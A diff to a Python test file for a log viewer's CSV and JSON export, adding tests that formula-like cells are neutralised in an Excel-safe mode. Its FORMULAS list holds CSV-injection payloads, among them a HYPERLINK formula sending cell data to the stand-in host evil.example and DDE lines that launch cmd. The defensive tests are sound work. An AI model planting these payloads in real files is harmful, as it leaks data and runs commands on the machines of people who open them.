@@ -21,7 +21,7 @@ from auditviewer.data.query import LogQuery
 from auditviewer.data.source import LogTable, open_source
 from auditviewer.data.timestamps import get_zone
 from tests.helpers.dbfactory import DbFactory
-from tests.unit.logrows import panel_row
+from tests.unit.logrows import api_row, panel_row
 
 ROWS = [panel_row(i, method=("GET", "POST")[i % 2], api_method_status=(None, "ok", "")[i % 3],
                   user_agent=None if i % 4 else "Mozilla/5.0 (X11; Linux x86_64)", business_unit_id=i % 2 or None)
@@ -137,3 +137,42 @@ def test_failed_export_leaves_nothing_behind(sqlite_db: DbFactory, tmp_path: Pat
         with pytest.raises(OSError, match="disk full"):
             export(LogQuery(source.log("panel")), "csv", out_dir / "out.csv", progress=progress)
     assert os.listdir(out_dir) == []
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-1"]
+PLAIN = ["/v2/api/item/1", "a=b", " =not at the start", "", "'already quoted"]
+
+
+@pytest.fixture
+def hostile_api(sqlite_db: DbFactory) -> Iterator[LogTable]:
+    rows = [api_row(i + 1, url=text, status=-5 if i % 2 else 200) for i, text in enumerate(FORMULAS + PLAIN)]
+    with open_source(sqlite_db.create({"api": rows})) as source:
+        yield source.log("api")
+
+
+def _url_and_status(text: str) -> list[list[str]]:
+    return [row[:2] for row in csv.reader(io.StringIO(text, newline=""))][1:]
+
+
+def test_csv_cells_are_the_evidence_as_it_is_by_default(hostile_api: LogTable) -> None:
+    query = LogQuery(hostile_api, sort=Sort("id", False), columns=["url", "status"])
+    assert [url for url, _ in _url_and_status(to_text(query, "csv"))] == FORMULAS + PLAIN
+
+
+def test_excel_safe_csv_marks_text_that_excel_would_run_as_a_formula(hostile_api: LogTable, tmp_path: Path) -> None:
+    query = LogQuery(hostile_api, sort=Sort("id", False), columns=["url", "status"])
+    path = tmp_path / "for-excel.csv"
+    export(query, "csv", path, bom=True, excel_safe=True)
+    cells = _url_and_status(path.read_bytes().decode("utf-8-sig"))
+    assert [url for url, _ in cells] == ["'" + text for text in FORMULAS] + PLAIN
+    # A number is not text: -5 in the integer status column cannot hold a formula and is written as it is.
+    assert [status for _, status in cells][:4] == ["200", "-5", "200", "-5"]
+    assert to_text(query, "csv", excel_safe=True).splitlines()[0] == "url,status"
+
+
+def test_json_is_never_changed_for_excel(hostile_api: LogTable, tmp_path: Path) -> None:
+    query = LogQuery(hostile_api, sort=Sort("id", False))
+    export(query, "json", tmp_path / "a.jsonl", excel_safe=True)
+    assert (tmp_path / "a.jsonl").read_text(encoding="utf-8") == to_text(query, "json")
+    assert [json.loads(line)["url"] for line in to_text(query, "json").splitlines()] == FORMULAS + PLAIN
